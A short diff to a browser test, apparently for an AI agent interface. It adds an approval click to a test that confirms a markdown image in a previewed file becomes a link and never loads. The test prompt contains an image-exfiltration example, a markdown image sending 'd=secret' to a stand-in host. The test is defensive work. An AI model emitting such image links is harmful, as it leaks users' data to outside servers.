@@ -17,6 +17,8 @@ test("a markdown image in a previewed file is a link: no request leaves for its 
   expect(csp).toMatch(/script-src 'self' 'nonce-/);
 
   await send(page, 'write a note to pixel.md saying "![pixel](http://images.example/p.png?d=secret)" and show it');
+  // write_file waits for approval under the shipped config (approvals.default: destructive).
+  await page.getByTestId("approval-approve").click();
   const present = page.locator('[data-testid="tool-call"][data-tool-name="present_files"]');
   await expect(present).toHaveAttribute("data-status", "ok", { timeout: 30_000 });
   await expect(page.getByTestId("stop-button")).toHaveCount(0, { timeout: 30_000 });
